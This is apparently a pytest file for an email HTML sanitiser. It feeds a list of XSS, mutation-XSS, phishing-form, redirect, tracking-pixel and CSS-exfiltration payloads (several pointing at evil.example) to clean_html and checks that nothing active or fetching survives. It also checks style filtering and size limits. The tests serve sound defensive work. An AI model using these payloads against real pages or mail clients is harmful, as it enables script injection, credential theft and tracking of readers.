"""Cleaned HTML holds nothing that acts, fetches or covers the page."""

from __future__ import annotations

import re
from time import process_time

import pytest

from channels_in.email.html import clean_html, clean_style

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><set attributeName=href to=javascript:alert(1)></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=x>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<body background=https://evil.example/x.gif>",
    "<table background=https://evil.example/x.gif><tr><td background='//evil.example/x'>x</td></tr></table>",
    "<img src=//evil.example/x.gif srcset='https://evil.example/y.gif 2x'>",
    "<img src='https://evil.example/x.gif' alt='\" src=\"https://evil.example/y'>",
    "<img src='cid:other@x'>",
    "<img src='cid:a@x\" onerror=\"alert(1)'>",
    "<video poster=https://evil.example/x.gif><source src=https://evil.example/x.mp4></video>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background:\\75rl(https://evil.example/x)'>x</div>",
    "<div style='background-image:image-set(\"https://evil.example/x\" 1x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</div>",
    "<div style='margin-top:-500px'>x</div>",
    '<div style=\'font-family:"x\\";}body{display:none"\'>x</div>',
    "<style>@import 'https://evil.example/x.css'; a[href^=a]{background:url(https://evil.example/a)}</style>",
    "<p id=message-1 class=toast name=x>x</p>",
    "<xmp><img src=x onerror=alert(1)></xmp><textarea><img src=x onerror=alert(1)></textarea>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<template><img src=x onerror=alert(1)></template>",
]
FETCHES = re.compile(
    r"""\s(?:src|srcset|background|poster|action|data|formaction|id|class|name|on\w+)\s*=""", re.IGNORECASE
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_that_acts_or_fetches(attack: str) -> None:
    safe = clean_html(f"<p>before</p>{attack}<p>after</p>", cids={"a@x": "a@x"})["html"]
    tags = re.findall(r"<[^>]*>", safe)
    assert not any(FETCHES.search(re.sub(r'="[^"]*"', "=", tag)) for tag in tags), safe
    for word in (
        "javascript:",
        "expression",
        "url(",
        "<script",
        "<style",
        "<svg",
        "<math",
        "<form",
        "<iframe",
        "position",
        "-500px",
    ):
        assert word not in re.sub(r"&lt;.*?&gt;", "", safe).lower(), safe
    assert all(
        tag.startswith(('href="https://', 'href="http://', 'href="mailto:', 'href="tel:'))
        for tag in re.findall(r'href="[^"]*"', safe)
    )


def test_cleaning_twice_changes_nothing() -> None:
    once = clean_html("".join(ATTACKS) + '<b style="color:red">x</b><img src="https://x.example/a&amp;b">', cids={})[
        "html"
    ]
    again = clean_html(once, cids={})["html"]
    assert re.sub(r' data-remote="[^"]*"', "", again) == re.sub(r' data-remote="[^"]*"', "", once)


def test_links_open_elsewhere_without_a_referrer() -> None:
    safe = clean_html('<a href="https://x.example/" rel="opener" target="_top">x</a>')["html"]
    assert safe == '<a href="https://x.example/" rel="noopener noreferrer" target="_blank">x</a>' or (
        'target="_blank"' in safe and 'rel="noopener noreferrer"' in safe and "_top" not in safe
    )


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: red; font-size: 12PX", "color:red;font-size:12px"),
        ("COLOR: #FF0000 !important", "color:#FF0000"),
        ("background-color: rgba(1, 2, 3, .5)", "background-color:rgba(1, 2, 3, 0.5)"),
        ("font-family: 'Malgun Gothic', sans-serif", "font-family:'Malgun Gothic', sans-serif"),
        ("width: calc(100% + 1px); display: none; opacity: 0; content: 'x'", ""),
        ("color: var(--x); color: attr(title)", ""),
        ("margin: 0 -1px", ""),
        ("font-size: 99999px", ""),
        ("color: red; } body { display: none", "color:red"),
        ("c\\6f lor: blue", "color:blue"),
    ],
)
def test_a_style_keeps_only_how_words_look(style: str, kept: str) -> None:
    assert clean_style(style) == kept


def test_words_of_html_read_like_the_page() -> None:
    html = "<p>Hello&nbsp;<b>Minji</b>,</p><ul><li>one</li><li>two</li></ul><blockquote>old<br>words</blockquote><pre>a  b\nc</pre>"
    assert clean_html(html)["text"] == "Hello Minji,\n\n- one\n- two\n\n> old\n> words\na  b\nc"


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000 + "words",
        "<b>x</b>" * 60_000,
        "x<br>" * 300_000,
        "<i></x>" * 400 + "words",
        "<a href='https://x.example'>x</a>" * 5001,
    ],
    ids=["depth", "tags", "size", "depth behind closing tags", "links"],
)
def test_html_over_a_limit_is_shown_as_its_words(html: str) -> None:
    started = process_time()
    result = clean_html(html)
    assert result["html"] == ""
    assert result["text"]
    assert process_time() - started < 3
